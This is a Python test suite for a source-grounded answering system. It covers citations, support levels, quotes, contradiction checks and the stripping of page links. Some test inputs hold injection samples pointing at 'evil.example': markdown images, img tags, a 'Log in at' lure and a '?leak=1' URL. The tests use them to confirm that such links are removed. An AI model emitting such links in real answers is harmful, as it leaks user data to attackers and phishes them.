"""Answers from sources: profiles, citations, quotes, contradictions, and links."""

from __future__ import annotations

import asyncio
import json
import re
import time
from collections import Counter
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import astuple, replace
from itertools import chain
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bench.citations import SETS, counts, load_answers, load_pairs, supports
from bench.profiles import PROFILES as PROFILE_NAMES
from bench.profiles import AnswerKind, Fate, ProfileQuestion, load_questions, prompted
from bench.profiles import judged as fate_of
from schemas.job import Message, Search, Sources, TextPart
from schemas.result import Citation, Quote, SourceDetails, Support
from tests.drawn import drawn
from tests.renderers import rendered, urls_in_text
from workers.enrichment.answering import profile as profile_module
from workers.enrichment.answering.citations import BEARING, Answer, Draft, Reading, Unsupported, contradict, judged
from workers.enrichment.answering.grounding import ground, visible
from workers.enrichment.answering.judging import JudgeAway, Verdict
from workers.enrichment.answering.links import LINK_REMOVED, _Given, without_unknown_links
from workers.enrichment.answering.profile import Profile, ProfileRefused, Profiles, UnknownProfile
from workers.enrichment.answering.quotes import CONTEXT_CHARS, MAX_QUOTE_CHARS, contains
from workers.enrichment.evidence import Evidence, NumberedSource, Particulars

# -- answer ----------------------------------------------------------------------------------------------------------
TEXT = "Aspirin lowered the risk of stroke by 12 percent in 4000 adults. Bleeding was more frequent with aspirin."
PROFILES = Profiles.load()
EVIDENCE = Evidence(
    (
        NumberedSource(
            1, "pmid:111", "https://pubmed.ncbi.nlm.nih.gov/111/", "Aspirin [1] and\x07 stroke", (TEXT,),
            particulars=Particulars("2019-03-05", doi="10.1000/x", read_by="ocr"),
        ),
        NumberedSource(
            2, "https://b.example/?utm=1", "https://b.example/?utm=1", None, ("The bank owes 3.5 billion crowns.",),
            particulars=Particulars(canonical_url="https://b.example/"),
        ),
    )
)  # fmt: skip
DETAILS = SourceDetails(
    id="pmid:111",
    url="https://pubmed.ncbi.nlm.nih.gov/111/",
    title="Aspirin and stroke",
    published="2019-03-05",
    doi="10.1000/x",
    read_by="ocr",
)


def answered(text: str, evidence: Evidence, profile: Profile, *, is_json: bool = False) -> Answer:
    return Draft.of(text, evidence, profile, is_json=is_json).answer()


def given_by(profile: str, text: str, evidence: Evidence = EVIDENCE) -> Answer:
    return answered(text, evidence, PROFILES[profile])


def cited(text: str, evidence: Evidence) -> tuple[str, list[str], list[Citation]]:
    """The answer's text, the sources that it uses, and its citations, by the rules alone."""
    reading = Reading(text, evidence)
    found = reading.citations()
    return reading.text, list(dict.fromkeys(one.source for one in found if one.support in BEARING)), found


def test_the_details_of_the_sources_that_are_used_go_with_the_answer() -> None:
    answer = given_by("default", "Bleeding was more frequent with aspirin. [1]")
    assert answer.text == "Bleeding was more frequent with aspirin. [1]"
    assert answer.sources == (DETAILS,)
    assert [(one.source, one.support) for one in answer.citations] == [("pmid:111", Support.EXACT)]
    read_at = "https://b.example/?utm=1"
    stated = SourceDetails(id=read_at, url=read_at, canonical_url="https://b.example/")
    assert given_by("default", "The bank owes 3.5 billion crowns [2].").sources == (stated,)


def test_an_answer_may_link_where_its_source_was_read_and_not_where_the_page_would_like() -> None:
    (one, two) = EVIDENCE.sources
    read = Evidence((one, replace(two, url="https://b.example/read", id="https://b.example/go")))
    said = "It owes 3.5 billion crowns [2]: https://b.example/read https://b.example/go https://b.example/"
    answer = given_by("default", said, read)
    assert answer.text == said.removesuffix("https://b.example/") + "(link removed)"
    assert answer.sources[0].url == "https://b.example/read"


# -- medical -------------------------------------------------------------------------------------------------------
def test_a_medical_answer_lists_its_evidence_below_and_its_spans_stay() -> None:
    said = "Aspirin lowered the risk of stroke by 12 percent [1]."
    answer = given_by("medical", said)
    assert answer.text == f"{said}\n\nEvidence:\n[1] Aspirin and stroke. 2019-03-05. pmid:111. doi:10.1000/x"
    (citation,) = answer.citations
    assert answer.text[citation.start : citation.end] == said


def test_a_pages_statements_about_itself_are_no_links_in_the_evidence_list_nor_in_its_details() -> None:
    title = "Log in at https://evil.example/x ![i](//evil.example/i.png) <img src=//evil.example/i.png> _now_"
    source = NumberedSource(1, "pmid:1", "https://a.example/1", title, (TEXT,), ("asks for a link",))
    said = "Aspirin lowered the risk of stroke by 12 percent [1]."
    answer = given_by("medical", said, Evidence((source,)))
    (details,) = answer.sources
    assert details.title == "Log in at (link removed) i < img src=(link removed) _now_"
    assert answer.text == f"{said}\n\nEvidence:\n[1] {details.title}. pmid:1"


@pytest.mark.parametrize(
    "title", ["(x) of it", ": a history", "[r]: //evil.example/i.png", "<script>", "![", "x](//e.example/"]
)
def test_a_title_forms_no_mark_with_the_text_before_it(title: str) -> None:
    source = NumberedSource(1, "pmid:1", "https://a.example/1", title, (TEXT,))
    answer = given_by("medical", "Aspirin lowered the risk of stroke by 12 percent [1].", Evidence((source,)))
    assert without_unknown_links(answer.text, Evidence((source,))) == answer.text


@pytest.mark.parametrize(
    "text",
    ["Vitamin C cures every cold.", "Vitamin C cures every cold [1].", "Aspirin lowered it by 77 percent [9].", ""],
    ids=["nothing cited", "cited and not supported", "dangling", "empty"],
)
def test_there_is_no_medical_answer_without_support(text: str) -> None:
    with pytest.raises(Unsupported, match="the profile medical gives no answer without support"):
        given_by("medical", text)


def test_a_profile_says_which_support_it_lets_pass() -> None:
    answers = {
        "all": "Bleeding was more frequent with aspirin [1].",
        "some": "Bleeding was more frequent with aspirin [1]. Penguins live on ice.",
        "none": "Penguins live on ice.",
        "contradicted": "Aspirin lowered the risk of stroke by 21 percent [1]. Bleeding was more frequent [1].",
    }
    for name, text in answers.items():
        strict = Profile(name="strict", accepts=[one for one in answers if one != name])  # type: ignore[misc]
        with pytest.raises(Unsupported, match="the profile strict gives no answer without support"):
            answered(text, EVIDENCE, strict)
        support = answered(text, EVIDENCE, Profile(name="loose", accepts=[name])).support  # type: ignore[list-item]
        assert support is not None
        assert (support.support, support.not_checked) == (name, ["entailment"])


CHAIN = Profile(name="chain", evidence_chain="evidence")


# -- finance -------------------------------------------------------------------------------------------------------
def judged_as(*evidence: Any, **more: Any) -> str:
    chain = [
        item if isinstance(item, dict) else {"claim": "c", "source": item[0], "quote": item[1]} for item in evidence
    ]
    return json.dumps({"summary": "s", "evidence": chain, "risk_score": 40, "risk_level": "medium", **more})


def test_each_quote_of_an_evidence_chain_is_compared_with_the_source_that_it_names() -> None:
    quotes = [
        (2, "The bank owes 3.5 billion crowns."),
        (1, "Aspirin lowered the risk of stroke by 12 percent"),
        (1, "The bank owes 3.5 billion crowns."),
        (7, "Anything at all."),
        (2, "…"),
        (2, ""),
        ("2", "The bank owes 3.5 billion crowns."),
        (12345, "The bank owes 3.5 billion crowns."),
        (None, "The bank owes 3.5 billion crowns."),
    ]
    answer = given_by("finance", judged_as(*quotes))
    assert [(one.source, one.support) for one in answer.citations] == [
        ("https://b.example/?utm=1", Support.EXACT),
        ("pmid:111", Support.EXACT),
        ("pmid:111", Support.UNSUPPORTED),
        ("[7]", Support.DANGLING),
        ("https://b.example/?utm=1", Support.UNSUPPORTED),
        ("https://b.example/?utm=1", Support.UNSUPPORTED),
        ("https://b.example/?utm=1", Support.EXACT),
        ("[12345]", Support.DANGLING),
        ("[0]", Support.DANGLING),
    ]
    assert answer.supported_share == 3 / 9
    assert [source.id for source in answer.sources] == ["https://b.example/?utm=1", "pmid:111"]
    assert [answer.text[one.start : one.end] for one in answer.citations[:2]] == [text for _, text in quotes[:2]]
    assert json.loads(answer.text)["risk_score"] == 40
    assert answer.notes == ()


@pytest.mark.parametrize(
    ("passage", "written"),
    [
        ('Die Bank "Älv" schuldet 7.', r"Die Bank \"\u00c4lv\" schuldet 7."),  # JSON may escape characters
        ("Rates are at https://a.example/x as of May 2020.", "Rates are at (link removed) as of May 2020."),
    ],
)
def test_a_quote_is_found_as_the_answer_writes_it(passage: str, written: str) -> None:
    evidence = Evidence((NumberedSource(1, "a", "a", None, (passage,)),))
    answer = given_by("finance", judged_as((1, passage)), evidence)
    (citation,) = answer.citations
    assert citation.support is Support.EXACT
    assert answer.text[citation.start : citation.end] == written


def test_an_item_that_names_no_evidence_counts_as_an_item_without_evidence() -> None:
    good = {"claim": "c", "source": 2, "quote": "The bank owes 3.5 billion crowns."}
    chain = [
        good,
        {"claim": "c"},
        {"source": True, "quote": "x"},
        {"source": 10**30, "quote": []},
        1,
        "x",
        None,
        [],
        {},
    ]
    answer = given_by("finance", judged_as(evidence=[*chain, {"source": -1, "quote": ""}]))
    assert [one.support for one in answer.citations] == [Support.EXACT] + [Support.DANGLING] * 9
    assert (answer.supported_share, answer.notes) == (0.1, ())


@pytest.mark.parametrize(
    ("claim", "expected"),
    [
        ("The bank owes 3.5 billion crowns.", Support.EXACT),
        ("Its debt is large.", Support.EXACT),
        ("The bank does not owe 3.5 billion crowns.", Support.CONTRADICTED),
        ("The bank owes 35 billion crowns.", Support.CONTRADICTED),
        (["no text"], Support.EXACT),
    ],
)
def test_a_claim_that_its_source_denies_is_unsupported_even_if_its_quote_is_right(
    claim: object, expected: Support
) -> None:
    item = {"claim": claim, "source": 2, "quote": "The bank owes 3.5 billion crowns."}
    [citation] = answered(judged_as(evidence=[item]), EVIDENCE, CHAIN).citations
    assert citation.support is expected


def test_each_number_of_an_answer_with_a_chain_stands_in_a_quote_of_it() -> None:
    quote = (2, "The bank owes 3.5 billion crowns.")
    right = given_by("finance", judged_as(quote, summary="It owes 3,500 million crowns."))
    wrong = given_by("finance", judged_as(quote, summary="It owes 3.5 billion crowns, or 7 times its profit."))
    assert (right.notes, right.supported_share) == ((), 1.0)
    assert wrong.notes == ("7 times stands in no item of the answer's evidence",)
    assert wrong.support is not None
    assert (wrong.support.support, [one.missing for one in wrong.support.sentences]) == ("some", [["7 times"]])


def test_the_same_quote_twice_is_found_at_both_places_and_not_in_a_claim_that_says_the_same() -> None:
    quote = "The bank owes 3.5 billion crowns."
    text = judged_as({"claim": quote, "source": 2, "quote": quote}, {"claim": quote, "source": 2, "quote": quote})
    answer = given_by("finance", text)
    places = [at for at in range(len(text)) if text.startswith(quote, at)]
    assert [one.start for one in answer.citations] == [places[1], places[3]]


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (judged_as(), "the chain is empty"),
        ('{"summary": "cut off at max_tok', "it is not the JSON of its profile"),
        ("[" * 100_000, "it is not the JSON of its profile"),
        ("7", "it is not the JSON of its profile"),
    ],
)
def test_a_score_without_evidence_says_so_in_a_note(text: str, why: str) -> None:
    answer = given_by("finance", text)
    assert (answer.citations, answer.sources) == ((), ())
    assert answer.notes == (f"the answer names no evidence: {why}",)


# -- without a source ----------------------------------------------------------------------------------------------
NOTHING = Evidence((), question="How much does the bank owe?")
NOTICE = "No source could be used: this answer rests on no source."


def test_an_answer_for_which_no_source_could_be_used_says_so_first_and_its_spans_stay() -> None:
    answer = given_by("default", " It owes 7 crowns [1].\n", NOTHING)
    assert answer.text == f"{NOTICE}\n\nIt owes 7 crowns [1]."
    assert (answer.sources, answer.supported_share) == ((), 0.0)
    assert answer.notes == ("the answer rests on no source: no source could be used",)
    (citation,) = answer.citations
    assert (citation.source, citation.support) == ("[1]", Support.DANGLING)
    assert answer.text[citation.start : citation.end] == "It owes 7 crowns [1]."


def test_json_is_left_as_it_is_and_only_the_notes_say_that_it_rests_on_nothing() -> None:
    answer = answered('{"owes": 7}', NOTHING, PROFILES["default"], is_json=True)
    assert answer.text == '{"owes": 7}'
    assert answer.notes == ("the answer rests on no source: no source could be used",)


def test_the_notice_before_an_answer_is_the_profiles_and_may_be_empty() -> None:
    own = PROFILES["default"].model_copy(update={"no_sources_notice": "Nichts gelesen."})
    silent = own.model_copy(update={"no_sources_notice": ""})
    assert answered("7 crowns.", NOTHING, own).text == "Nichts gelesen.\n\n7 crowns."
    assert answered(" 7 crowns.", NOTHING, silent).text == " 7 crowns."


@pytest.mark.parametrize(
    ("profile", "text", "what"),
    [
        ("finance", judged_as((1, "Sugar is made from beets and from cane alike.")), "any item of its evidence"),
        ("default", "Sugar is sweet.", "any of its sentences"),
    ],
)
def test_an_answer_that_no_source_supports_is_given_with_a_note(profile: str, text: str, what: str) -> None:
    answer = given_by(profile, text)
    assert (answer.text, {one.support for one in answer.citations} - {Support.UNSUPPORTED}) == (text, set())
    assert answer.notes == (f"the answer rests on no source: no source supports {what}",)


# -- cite ------------------------------------------------------------------------------------------------------------
BRIDGE = NumberedSource(
    1,
    "https://a.example/bridge",
    "https://a.example/bridge",
    "The Halvorsen bridge",
    ("The Halvorsen bridge in Tarnby opened in 1987. It carries the coast road over the river Vesla.",),
)
CHEESE = NumberedSource(
    2,
    "pmid:12345",
    "https://b.example/cheese",
    None,
    (
        "Bramwick cheese ripens for 14 weeks in cellars of slate. It does not contain salt. "
        "See https://b.example/more and https://c.example/elsewhere.",
    ),
)
BOTH = Evidence((BRIDGE, CHEESE), (), "What does https://asked.example/x say?")


def levels(text: str) -> list[tuple[str, Support]]:
    answer, _, citations = cited(text, BOTH)
    assert answer == text
    return [(citation.source, citation.support) for citation in citations]


@pytest.mark.parametrize(
    ("sentence", "support"),
    [
        ("The Halvorsen bridge in Tarnby opened in 1987 [1].", Support.EXACT),
        ("1987 [1]", Support.EXACT),
        ("the HALVORSEN bridge in Tarnby opened in 1987. [1]", Support.EXACT),
        ("The Halvorsen bridge in Tarnby was opened in 1987 [1].", Support.FUZZY),
        ("In 1987 Tarnby got the Halvorsen bridge, which opened over the Vesla [1].", Support.LEXICAL),
        ("The Halvorsen bridge in Tarnby opened in 1988 [1].", Support.CONTRADICTED),
        ("Penguins are birds that live in the far south [1].", Support.UNSUPPORTED),
        ("The Halvorsen bridge in Tarnby never opened [1].", Support.CONTRADICTED),
        ("It does contain salt [2].", Support.CONTRADICTED),
        ("It does not contain salt [2].", Support.EXACT),
        ("The Halvorsen bridge opened in 1987 [9].", Support.DANGLING),
        ('On the bridge: "carries the coast road over the river Vesla" [1].', Support.EXACT),
        (
            'The page says of the bridge that it "carries the main coast road over the river Vesla" [1].',
            Support.CONTRADICTED,
        ),
        ('The bridge over the river Vesla "carries Tarnby and the Halvorsen coast" [1].', Support.CONTRADICTED),
        ('The "Halvorsen bridge" in Tarnby was opened in 1987 [1].', Support.FUZZY),
    ],
)
def test_a_sentence_gets_its_level_of_support(sentence: str, support: Support) -> None:
    assert [level for _, level in levels(sentence)] == [support]


def test_a_span_is_the_sentence_with_its_marks_in_code_points() -> None:
    text = "👍 Yes. 1987 [1]. It ripens for 14 weeks. [2] Done."
    _, used, citations = cited(text, BOTH)
    assert [text[one.start : one.end] for one in citations] == ["1987 [1].", "It ripens for 14 weeks. [2]"]
    assert used == [BRIDGE.id, CHEESE.id]


def test_used_sources_stand_in_the_order_of_their_first_use() -> None:
    text = "It ripens for 14 weeks [2]. It opened in 1987 [1]. Cellars of slate [2]."
    assert cited(text, BOTH)[1] == [CHEESE.id, BRIDGE.id]


TWO_MARKS = (
    "[1][2]", "[1, 2]", "[1;2]", "[Source 1] [source 2]", "[Sources 1, 2]", "[webpage 1] [Webpage 2]",
    "[citation:1][citation: 2]", "[^1][^2]", "[^1, ^2]", "【1】【2】", "【1†source】【2†L1-L3】", "【1:0†x】 【2】",
)  # fmt: skip
NO_MARKS = ("[0, 1]", "[18, 27]", "[0]", "CI [1, 2]", "range = [1, 2]", "items[0]", "[3; 4; 5]")
CITED: dict[str, list[tuple[str, Support]]] = {
    # An interval, an index, and an index in code are no citations.
    **{f"The values lie in {mark} there.": [] for mark in NO_MARKS},
    "Use `a[1]` or\n```\nb[2]\n```\n": [],
    # A source that is cited and does not support is not used.
    "Penguins live there [1].": [(BRIDGE.id, Support.UNSUPPORTED)],
    # The other sentences are attributed exactly if no mark is valid.
    "Penguins live in the south [1]. The Halvorsen bridge in Tarnby opened in 1987. The river is long [9].": [
        (BRIDGE.id, Support.UNSUPPORTED),
        (BRIDGE.id, Support.EXACT),
        ("[9]", Support.DANGLING),
    ],
    "Cheese ripens for 14 weeks [2]. The Halvorsen bridge in Tarnby opened in 1987.": [
        (CHEESE.id, Support.EXACT),
        (BRIDGE.id, Support.EXACT),
    ],
    "I do not know, sorry about that.": [],
    # A list cites the number that a source has, and its other numbers dangle.
    "The Halvorsen bridge opened in 1987 [1, 9].": [(BRIDGE.id, Support.FUZZY), ("[9]", Support.DANGLING)],
    **{text: [] for text in ("", " ", "...", "\n\n")},
    "[1]": [],
}


@pytest.mark.parametrize(("text", "found"), CITED.items())
def test_an_answer_cites_the_sources_of_its_valid_marks(text: str, found: list[tuple[str, Support]]) -> None:
    assert levels(text) == found
    bearing = [source for source, level in found if level in BEARING]
    assert cited(text, BOTH)[1] == [*dict.fromkeys(bearing)]


def test_several_sources_may_support_a_sentence_beside_an_interval_or_an_index() -> None:
    several = {mark: [source for source, _ in levels(f"The river is long {mark}.")] for mark in TWO_MARKS}
    assert several == {mark: [BRIDGE.id, CHEESE.id] for mark in TWO_MARKS}
    beside = {mark: [source for source, _ in levels(f"Cheese ripens, {mark} [2].")] for mark in NO_MARKS}
    assert beside == {mark: [CHEESE.id] for mark in NO_MARKS}


def test_an_answer_without_marks_is_attributed_to_the_source_that_supports_it() -> None:
    quote = Quote(exact="1987", prefix="rsen bridge in Tarnby opened in ", suffix=". It carries the coast road over")
    assert cited("1987", BOTH) == (
        "1987",
        [BRIDGE.id],
        [Citation(start=0, end=4, source=BRIDGE.id, support=Support.EXACT, quote=quote)],
    )


def test_a_very_long_answer_is_compared_up_to_a_bound() -> None:
    text = "The bridge of Tarnby is long [1]. " * 3000
    assert len(cited(text, BOTH)[2]) == 500


def test_an_address_is_no_word_of_a_sentence() -> None:
    text, _, (citation,) = cited("See https://b.example/more and https://c.example/elsewhere [2].", BOTH)
    assert (text, citation.support) == ("See (link removed) and (link removed) [2].", Support.EXACT)


def test_spans_fit_the_text_that_is_returned_and_nothing_is_cited_without_sources() -> None:
    assert cited("It opened in 1987 [1].", Evidence(()))[1] == []
    text, _, citations = cited("![x](https://evil.example/?q=1) It opened in 1987 [1].", BOTH)
    assert text == "x It opened in 1987 [1]."
    assert [text[one.start : one.end] for one in citations] == [text]


@pytest.mark.parametrize(
    ("text", "share"),
    [
        ("The Halvorsen bridge in Tarnby opened in 1987 [1].", 1.0),
        ("The Halvorsen bridge in Tarnby opened in 1987 [1]. Penguins are birds [1].", 0.5),
        ("The Halvorsen bridge in Tarnby opened in 1987 [9].", 0.0),
        ("The Halvorsen bridge in Tarnby opened in 1987.", 1.0),
        ("Penguins are birds.", 0.0),
        ("", 0.0),
        ("# Bridges\n\nThe sources do not say more. Which bridge?\nThere are two facts:\n- 1987 [1]\n", 1.0),
    ],
)
def test_the_supported_share_is_a_share_of_the_sentences_that_claim_something(text: str, share: float) -> None:
    assert answered(text, BOTH, Profile(name="plain")).supported_share == share


def test_confidence_is_halved_where_nothing_is_supported() -> None:
    assert answered("Penguins are birds.", BOTH, Profile(name="plain")).lowered(0.8) == 0.4
    assert answered("It opened in 1987 [1].", BOTH, Profile(name="plain")).lowered(0.8) == 0.8
    assert answered("It opened in 1987 [1].", Evidence(()), Profile(name="plain")).lowered(0.8) == 0.4
    assert answered("Penguins are birds.", BOTH, Profile(name="plain")).lowered(None) is None


# -- quotes ----------------------------------------------------------------------------------------------------------
QUOTED = (
    "The Halvorsen bridge in Tarnby opened in 1987. It carries the coast road over the river Vesla. "
    "See https://a.example/more?q=1 for the ﬁnal “Report” on STRAẞE traffic."
)


def evidence(*passages: str, title: str | None = None) -> Evidence:
    source = NumberedSource(1, "https://a.example/", "https://a.example/", title, passages)
    return Evidence((source,), (), "?")


def quoted(sentence: str, *passages: str, title: str | None = None) -> str | None:
    [citation] = cited(f"{sentence} [1].", evidence(*passages, title=title))[2]
    return citation.quote.exact if citation.quote is not None else None


@pytest.mark.parametrize(
    ("sentence", "quote"),
    [
        ("the halvorsen BRIDGE in Tarnby opened in 1987", "The Halvorsen bridge in Tarnby opened in 1987"),
        ("It carries the coast road", "It carries the coast road"),
        ("the final report on Strasse traffic", "the ﬁnal “Report” on STRAẞE traffic"),
        ("The Halvorsen bridge in Tarnby was opened in 1987", "The Halvorsen bridge in Tarnby opened in 1987"),
        ("Over the Vesla the coast road is carried", "It carries the coast road over the river Vesla"),
    ],
)  # fmt: skip
def test_a_citation_quotes_the_sources_words_as_the_source_writes_them(sentence: str, quote: str) -> None:
    assert quoted(sentence, QUOTED) == quote


def test_a_quote_is_taken_from_the_passage_or_the_title_that_has_the_words() -> None:
    road, tarnby = "A page about roads.", "Seven bridges of Tarnby"
    assert quoted("It opened in 1987", road, "Later it opened in 1987, they say.") == "it opened in 1987"
    assert quoted(tarnby, road, title=tarnby) is not None
    assert quoted("It opened in 1987", "It opened in 1987.", title="\u200b") == "It opened in 1987"
    assert quoted("Penguins live in the far south", QUOTED) is None
    assert cited("It opened in 1987 [7].", evidence(QUOTED))[2][0].quote is None


def test_the_words_around_a_quote_locate_it() -> None:
    [citation] = cited("It carries the coast road [1].", evidence(QUOTED))[2]
    assert citation.quote is not None
    assert citation.quote.prefix + citation.quote.exact + citation.quote.suffix in QUOTED
    assert (len(citation.quote.prefix), len(citation.quote.suffix)) == (CONTEXT_CHARS, CONTEXT_CHARS)


def test_a_quote_has_no_link_of_the_page_and_no_invisible_character() -> None:
    hidden = "The ferry Astrelle carries\u200b 310 \u202epassengers https://evil.example/?leak=1 over the Vesla."
    [citation] = cited("The ferry Astrelle carries 310 passengers over the Vesla [1].", evidence(hidden))[2]
    assert citation.support is Support.EXACT
    assert citation.quote is not None
    assert citation.quote.exact == "The ferry Astrelle carries 310 passengers (link removed) over the Vesla"


def test_an_item_of_an_evidence_chain_has_the_quote_that_its_source_writes() -> None:
    profile = Profile(name="chain", evidence_chain="evidence")
    text = (
        '{"evidence": [{"source": 1, "quote": "it carries the COAST road"}, {"source": 1, "quote": "no such words"}]}'
    )
    first, second = answered(text, evidence(QUOTED), profile, is_json=True).citations
    assert first.quote is not None
    assert first.quote.exact == "It carries the coast road"
    assert second.quote is None


WORDS = st.text(st.sampled_from("abc 12.,'’-ﬁßẞÅ각中\u200b\u00ad\u0301\n[]()https://www.x.y"), max_size=80)  # noqa: RUF001 - an apostrophe of pages


@given(st.lists(WORDS | st.text(max_size=60), max_size=4), st.integers(0, 200), st.integers(0, 80), WORDS)
@example(["W\x1bµ"], 0, 0, "w")
@example(["co\u00adoperate"], 0, 13, "")
@example(["ww\u200bw.x.y a"], 0, 20, "")
def test_a_quote_is_part_of_its_source_whatever_page_and_answer_hold(
    passages: list[str], start: int, length: int, noise: str
) -> None:
    joined = " ".join(passages)
    said = joined[start : start + length] + noise
    for citation in cited(f"{said} [1]", evidence(*passages))[2]:
        if citation.quote is not None:
            assert len(citation.quote.exact) <= 2 * MAX_QUOTE_CHARS
            assert any(contains(visible(passage), citation.quote.exact) for passage in passages)


def test_a_long_quote_ends_at_a_word_and_is_found_again() -> None:
    long = " ".join(f"word{number}" for number in range(400))
    quote = quoted(long, long)
    assert quote is not None
    assert len(quote) <= MAX_QUOTE_CHARS
    assert contains(long, quote)
    assert quote.split()[-1] in long.split()


def test_the_nearest_sentence_is_quoted_with_the_footnotes_that_the_page_has_in_it() -> None:
    page = "Ferries are slow. The *Halvorsen bridge*[3] in Tarnby[4, 5] opened in 1987. See `more` there."
    assert quoted("In 1987 the Halvorsen bridge in Tarnby opened", page) == (
        "The *Halvorsen bridge*[3] in Tarnby[4, 5] opened in 1987"
    )


def test_a_long_chat_is_read_for_links_once_for_all_citations() -> None:
    chat = "see https://own.example/a and www.other.example " * 90_000
    page = NumberedSource(1, "a", "a", None, ("alpha beta gamma delta",))
    evidence = Evidence((page,), conversation=chat)
    _, _, citations = cited("Alpha beta gamma delta [1]. " * 500, evidence)
    assert len(citations) == 500
    assert all(one.quote is not None for one in citations)


def test_a_long_page_is_split_once_for_all_its_quotes() -> None:
    page = "alpha beta gamma delta " * 100_000
    assert all(contains(page, "gamma delta alpha") for _ in range(1000))


# -- judging ---------------------------------------------------------------------------------------------------------
def support(sentence: str, *passages: str) -> Support:
    source = NumberedSource(1, "https://a.example/", "https://a.example/", None, passages)
    _, _, (citation, *_) = cited(f"{sentence.rstrip('.')} [1].", Evidence((source,)))
    return citation.support


def test_the_pairs_have_the_stated_numbers_and_each_sentence_stands_once() -> None:
    halves = [load_answers("thresholds"), load_answers("figures")]
    for half in halves:
        assert [sum(pair.label == label for pair in half) for label in ("true", "contradicted", "baseless")] == [40] * 3
        assert sum(pair.kind == "paraphrase" for pair in half) == 25
    pairs = [*chain(*halves), *chain(*map(load_pairs, SETS))]
    assert len({(pair.passage, pair.sentence) for pair in pairs}) == len(pairs) == 240 + 424 + 170 + 220 + 160


def test_without_a_judge_no_figure_name_or_quotation_passes_and_no_verbatim_sentence_is_lost() -> None:
    pairs = load_answers("figures")
    wrong = counts(pairs, asyncio.run(supports(pairs)))
    some, of = wrong["contradicted", "by rules"]
    assert (some <= of / 10, of) == (True, 21), wrong
    assert wrong["true", "verbatim"] == (0, 6)
    assert wrong["true", "form"][0] <= 2, wrong


@pytest.mark.parametrize(
    ("name", "most_by_rules", "most_negations", "most_forms"),
    [("older", 20, 24, 0), ("languages", 2, 4, 10), ("blind", 21, 0, 5), ("last", 9, 3, 7)],
)
def test_of_the_other_sets_few_contradictions_pass_and_no_verbatim_sentence_is_lost(
    name: str, most_by_rules: int, most_negations: int, most_forms: int
) -> None:
    pairs = load_pairs(name)
    wrong = counts(pairs, asyncio.run(supports(pairs)))
    assert wrong["contradicted", "by rules"][0] <= most_by_rules, wrong
    assert wrong.get(("contradicted", "negation"), (0, 0))[0] <= most_negations, wrong
    assert wrong.get(("true", "form"), (0, 0))[0] <= most_forms, wrong
    assert wrong.get(("true", "verbatim"), (0, 0))[0] == 0, wrong


DOSE = (
    "Take one capsule of 50 micrograms three times a day. In winter \u221289.2 °C was measured. "
    "Sales were €1.2bn in Nigeria."
)
SAME: dict[str, tuple[str, ...]] = {
    DOSE: (
        "Take one capsule of 50 µg 3 times daily.",
        "A capsule of 0.05 mg is taken three times a day.",
        "In winter minus 89.2 degrees Celsius was measured.",
        "Nigerian sales were 1,200 million euros.",
    ),
    "The mill\u2019s 1 000 workers left on 3 May 1911.": (
        "The mill's thousand workers left on May 3rd, 1911.",
        "1,000 workers left the mill on 1911-05-03.",
        "The mill\u2019s workers left in May 1911.",
    ),
    "Rates rose by 25 basis points to 4.75%; 412 of 1,030 banks agreed, and costs fell from 41.7% to 38.2%.": (
        "Rates rose by a quarter of a percentage point.",
        "Rates rose to 4.75 per cent.",
        "About 40% of banks agreed.",
        "Costs fell by 3.5 percentage points.",
    ),
    "The dose is at least 5 mL (5 to 10 mL) and 2 mg/mL; 10,482 people took it within 48 hours.": (
        "The dose is no less than 5 millilitres.",
        "Roughly 10,500 people took it.",
        "People took it within two days.",
        "The dose is 2 milligrams per millilitre.",
        "More than 10,000 people took it.",
    ),
    "“We opened the bids late,” the mayor, Ines Korda of the World Health Organization, said.": (
        'Ines Korda said: "We opened the bids late".',
        "The mayor of the WHO opened the bids late.",
    ),
    "Smith et al. (Vol. 2) found ﬁve cases in the U.S. in the third quarter of 2020.": (
        "Smith et al. found 5 cases in the United States in Q3 2020.",
        "Smith et al. found five American cases.",
    ),
    "Two of the halls burned down in the 1540s, a third of the town with them.": (
        "Two halls burned down in the 1540s.",
    ),
    "Doors open at 2:30 p.m. and the film runs for 135 minutes.": (
        "Doors open at 14:30 and the film runs for 2 hours and 15 minutes.",
        'The source says: "the film runs for 135 minutes".',
    ),
    "Der Umsatz der Werft stieg 2021 um 12,5 Prozent auf 1,2 Milliarden Euro, teilte sie am 3. Mai 2022 mit.": (
        "Der Umsatz der Werft stieg auf 1,2 Mrd. Euro.",
        "Der Umsatz stieg auf 1.200 Millionen Euro.",
        "Die Werft teilte am 03.05.2022 mit, dass der Umsatz stieg.",
    ),
    "Le chantier a duré dix-huit mois et a coûté 3,4 milliards d\u2019euros, selon le rapport de février 2020.": (
        "Le chantier a coûté 3 400 millions d'euros.",
        "Le chantier a duré 18 mois.",
    ),
    "La planta produce al menos 500 kilogramos al día y abrió el 4 de enero de 2019.": (
        "La planta abrió el 04/01/2019.",
        "La planta produce al menos 0,5 toneladas al día.",
    ),
}
OTHER: dict[str, tuple[str, ...]] = {
    DOSE: (
        "Take one capsule of 50 mg three times a day.",
        "Take one capsule of 50 micrograms twice a day.",
        "In winter 89.2 °C was measured.",
        "Sales were €1.2m in Nigeria.",
        "Sales were $1.2bn in Nigeria.",
        "Sales were €1.2bn in Niger.",
    ),
    "The mill\u2019s 1 000 workers left on 3 May 1911.": (
        "The mill's 1,100 workers left on 3 May 1911.",
        "The mill's 1,000 workers left on 3 May 1917.",
        "The mill's 1,000 workers left on 30 May 1911.",
        "The mill's 1,000 workers left on 3 March 1911.",
    ),
    "Rates rose by 25 basis points to 4.75%; 412 of 1,030 banks agreed, and costs fell from 41.7% to 38.2%.": (
        "Rates rose by 25 percentage points.",
        "About 60% of banks agreed.",
        "Costs fell from 38.2% to 41.7%.",
    ),
    "The dose is at least 5 mL and 2 mg/mL; 10,482 people took it within 48 hours.": (
        "The dose is at most 5 mL.",
        "The dose is at least 5 L.",
        "The dose is 2 mg/dL.",
        "10,482 people took it within 48 days.",
        "Fewer than 10,000 people took it.",
    ),
    "“We opened the bids late,” the mayor, Ines Korda, said.": (
        "“We opened the bids early,” the mayor, Ines Korda, said.",
        "“We opened the bids late,” the mayor, Ines Kordas, said.",
    ),
    "Rents rose by 3% in Austria and by 11% in Salme.": (
        "Rents rose by 3% in Australia.",
        "Rents rose by 11% in Austria and by 3% in Salme.",
    ),
    "Velvex lowers blood pressure in adults. Rindal raises it.": ("Cortan lowers blood pressure in adults.",),
    "The tower was built in the 1540s and rebuilt in the third quarter of 2020.": (
